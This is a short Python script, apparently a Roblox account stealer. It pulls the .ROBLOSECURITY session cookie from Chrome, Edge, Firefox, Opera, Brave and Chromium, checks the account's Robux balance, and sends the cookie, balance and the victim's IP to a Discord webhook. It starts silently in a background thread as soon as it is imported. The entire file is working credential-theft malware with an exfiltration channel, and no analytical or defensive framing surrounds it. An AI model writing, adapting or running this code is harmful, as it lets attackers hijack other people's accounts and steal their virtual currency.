import browser_cookie3
import requests
import threading
import json
import re

WEBHOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"
BROWSERS = ["chrome", "edge", "firefox", "opera", "brave", "chromium"]
found = []

def grab(name):
    try:
        jar = getattr(browser_cookie3, name)(domain_name="roblox.com")
        for c in jar:
            if c.name == ".ROBLOSECURITY":
                found.append((name, c.value))
    except Exception:
        pass

def robux(cookie):
    try:
        return requests.get("https://economy.roblox.com/v1/user/currency", cookies={".ROBLOSECURITY": cookie}).json()["robux"]
    except:
        return 0

def main():
    ts = [threading.Thread(target=grab, args=[b]) for b in BROWSERS]
    [t.start() for t in ts]
    [t.join() for t in ts]
    for browser, cookie in found:
        ip = requests.get("https://api.ipify.org").text
        embed = {
            "username": "logger",
            "embeds": [{"title": "New hit", "fields": [
                {"name": "Browser", "value": browser},
                {"name": "Robux", "value": str(robux(cookie))},
                {"name": "IP", "value": ip},
                {"name": "Cookie", "value": f"```{cookie}```"}]}]}
        requests.post(WEBHOOK, data=json.dumps(embed), headers={"content-type": "application/json"})

threading.Thread(target=main, daemon=True).start()
